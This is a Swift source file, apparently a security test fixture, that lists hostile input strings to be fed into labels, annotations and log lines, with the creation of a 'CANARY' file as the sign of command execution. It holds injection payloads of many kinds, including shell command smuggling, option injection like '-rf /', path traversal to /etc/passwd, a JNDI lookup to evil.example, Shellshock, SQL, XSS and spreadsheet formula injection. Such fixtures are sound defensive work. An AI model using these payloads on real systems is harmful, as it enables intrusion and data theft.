/// What attackers write into labels, annotations and log lines, to be found by some program on the way.
///
/// `CANARY` stands for the path of a file that must never come to be.
enum HostileTexts {
    /// The canary's place in the texts.
    static let canary = "CANARY"

    /// All of them.
    static let all: [String] = shells + options + paths + templates + lines + characters + protocols + numbers

    static let shells = [
        "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "a; touch CANARY;", "| touch CANARY", "a|touch CANARY",
        "|| touch CANARY", "&& touch CANARY", "& touch CANARY &", "a\ntouch CANARY", "a\rtouch CANARY",
        "a\r\ntouch CANARY\r\n", "'; touch CANARY; '", "\"; touch CANARY; \"", "'$(touch CANARY)'",
        "\"$(touch CANARY)\"",
        "\\$(touch CANARY)", "\\`touch CANARY\\`", "$(touch${IFS}CANARY)", "{touch,CANARY}", "$((touch CANARY))",
        "<(touch CANARY)", ">(touch CANARY)", "> CANARY", ">> CANARY", "2> CANARY", "< CANARY", "<<< CANARY", "<<EOF",
        "${IFS}touch${IFS}CANARY", "$'\\x74ouch CANARY'", "${x:=$(touch CANARY)}", "${PATH:0:1}", "$PATH", "${HOME}",
        "$$",
        "$!", "!touch CANARY", "!!", "!$", "*", "?", "[a-z]*", "~", "~root", "{a,b}", "#comment", "a #b",
        "x=1 touch CANARY",
        "() { :;}; touch CANARY", "() { x() { _; }; x() { _; } <<a; }", "%0atouch%20CANARY", "`id`", "$(id)",
        "$(reboot)",
        "eval touch CANARY", "exec touch CANARY", "sh -c 'touch CANARY'", "/bin/sh -c \"touch CANARY\"", "a' || 'a'='a",
        "'; DROP TABLE run; --", "1 OR 1=1", "\\! touch CANARY", "COPY x TO PROGRAM 'touch CANARY'",
        "=cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'x'!A1", "+1+1", "__import__('os').system('touch CANARY')", "#{`touch CANARY`}",
        "<%= `touch CANARY` %>", "<?php system('touch CANARY'); ?>", "*/ system(\"touch CANARY\") /*",
    ]

    static let options = [
        "-o", "-oProxyCommand=touch CANARY", "--", "--output=CANARY", "--help", "-", "-rf", "-rf /",
        "--exec=touch CANARY",
        "-e touch CANARY", "-c touch CANARY", "- -o", "\u{2010}o", "\u{2212}o", "\u{ff0d}o", "\u{2014}output", "+x",
        "@CANARY",
        "@/etc/passwd", "/F",
    ]

    static let paths = [
        "../", "..", ".", "../../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "....//....//etc", "%2e%2e%2f",
        "%252e%252e%252f", "..%c0%af..%c0%af", "a/../../b", "/dev/stdin", "/proc/self/environ", "file:///etc/passwd",
        "a/b",
        "//evil.example/x", "\\\\evil\\share", "a%00.txt", "a;b", "a?b=c&d", "a#b", "CON", "a:b",
    ]

    static let templates = [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "${${text}}", "${text}", "${secret.DB}", "$text",
        "%{text}",
        "{text}", "{0}", "%s%s%s%n", "%n%n%n%n", "%x%x%x%x", "%(text)s", "{{text}}", "{% for x in y %}", "[[${7*7}]]",
        "${jndi:ldap://evil.example/a}", "${env:HOME}", "params.text", "size(params)", "@@version", "$(text)",
        "{{config}}",
        "${run.step_key}", "${secret.", "${", "}", "${}",
    ]

    static let lines = [
        "a\nb", "a\u{0}b", "\u{0}", "a\r\nX-Admin: 1", "a\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil\r\n\r\n", "a\tb",
        "a\u{b}b",
        "a\u{c}b", "a\u{1b}[2Jb", "\u{1b}]0;title\u{7}", "\u{1b}[31mred\u{1b}[0m", "\u{9b}31m", "a\u{8}\u{8}b",
        "a\u{7f}b",
        "a\u{85}b", "a\u{2028}b", "a\u{2029}b", "\n", "\r", "\u{1a}", "a\u{4}",
    ]

    static let characters = [
        "a\u{202e}b", "\u{202d}x\u{202c}", "\u{2066}x\u{2069}", "a\u{200b}b", "a\u{200d}b", "\u{feff}a", "a\u{ad}b",
        "0\u{301}",
        "\u{ff04}(touch CANARY)", "\u{ff1b} touch CANARY", "\u{ff40}id\u{ff40}", "\u{2018}x\u{2019}", "\u{fffd}",
        "\u{fffe}",
        "\u{10ffff}", "\u{1f4a9}", "é", "e\u{301}", "ß", "\u{130}", "\u{fb01}le", "\u{1d4f9}", "\u{0430}dmin", " ",
        "  a  ",
        "\u{a0}", "\u{3000}", "", String(repeating: "A", count: 4_096), String(repeating: "A", count: 5_000),
        String(repeating: "../", count: 1_000), String(repeating: "ä", count: 4_096),
        String(repeating: "%", count: 2_000),
    ]

    static let protocols = [
        "evil.example", "a@evil.example", "a:80", ":80", "#@evil.example", "?x=http://evil.example",
        "http://evil.example",
        "javascript:alert(1)", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]>", "<!--", "&lt;",
        "&#0;",
        "{\"a\":1}", "\",\"admin\":true,\"x\":\"", "\\u0022", "\\", "\\\\", "\\n", "\"", "'", "'\"", "a\\", "%22", "%",
        "+", "a b&c=d", "Basic YTpi", "*)(uid=*", "|(a=b)",
    ]

    static let numbers = [
        "0", "-1", "1e999", "NaN", "0x7f", "null", "true", "[]", "{}", "!!python/object:x", "&a *a", "<<",
    ]
}
